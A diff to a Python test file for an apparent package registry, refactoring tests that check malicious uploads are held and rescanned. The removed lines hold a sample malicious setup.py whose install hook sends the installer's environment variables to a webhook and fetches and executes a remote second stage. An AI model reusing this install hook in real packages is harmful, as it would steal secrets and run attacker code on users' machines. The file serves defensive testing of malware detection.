@@ -12,6 +12,7 @@ import pytest
 from bastion.cli import build_parser, main
 from bastion.packages.models import File, Release
 from tests import builders
+from tests.upload.test_verdict import malicious_sdist
 
 pytestmark = pytest.mark.django_db(transaction=True)
 
@@ -217,27 +218,10 @@ def test_survey_lists_projects_using_a_module(capsys: Any, upload: Any, token: s
     assert any("sign" in name for fns in rows[0]["modules"].values() for name in fns)
 
 
-MALICIOUS_SETUP = b"""import os, base64, urllib.request
-from setuptools import setup
-from setuptools.command.install import install
-
-class Evil(install):
-    def run(self):
-        data = base64.b64encode(repr(dict(os.environ)).encode())
-        urllib.request.urlopen("https://discord.com/api/webhooks/1/abc", data=data)
-        exec(urllib.request.urlopen("http://203.0.113.9/stage2.py").read())
-        install.run(self)
-
-setup(name="samplepkg", version="1.0", cmdclass={"install": Evil})
-"""
-
-
 def test_malicious_upload_is_held_and_owners_notified(
     upload: Any, token: str, client: Any, mailoutbox: Any
 ) -> None:
-    dist = builders.sdist(
-        "samplepkg", "1.0", extra_members={"samplepkg-1.0/setup.py": MALICIOUS_SETUP}
-    )
+    dist = malicious_sdist()
     assert upload(dist, token).status_code == 400  # held: refused with the reason
     file = File.objects.get()
     assert file.state == File.HELD and file.scan_verdict == "malicious"
@@ -254,9 +238,7 @@ def test_rescan_holds_what_is_now_malicious(
 
     from bastion.packages import services
 
-    dist = builders.sdist(
-        "samplepkg", "1.0", extra_members={"samplepkg-1.0/setup.py": MALICIOUS_SETUP}
-    )
+    dist = malicious_sdist()
     assert upload(dist, token).status_code == 400  # held: refused with the reason
     file = File.objects.get()
     with transaction.atomic():  # as if it had been published under older rules
@@ -319,9 +301,7 @@ def test_rescan_publishes_or_holds_a_pending_file(capsys: Any, upload: Any, toke
 
     with override_settings(TASKS=DATABASE_QUEUE):  # nobody runs the queue: both stay pending
         assert upload(builders.wheel("samplepkg", "1.0"), token).status_code == 200
-        dist = builders.sdist(
-            "samplepkg", "1.0", extra_members={"samplepkg-1.0/setup.py": MALICIOUS_SETUP}
-        )
+        dist = malicious_sdist()
         assert upload(dist, token).status_code == 200
         assert set(File.objects.values_list("state", flat=True)) == {File.PENDING}
         code, out, _ = run(capsys, "rescan", "--state", "pending")
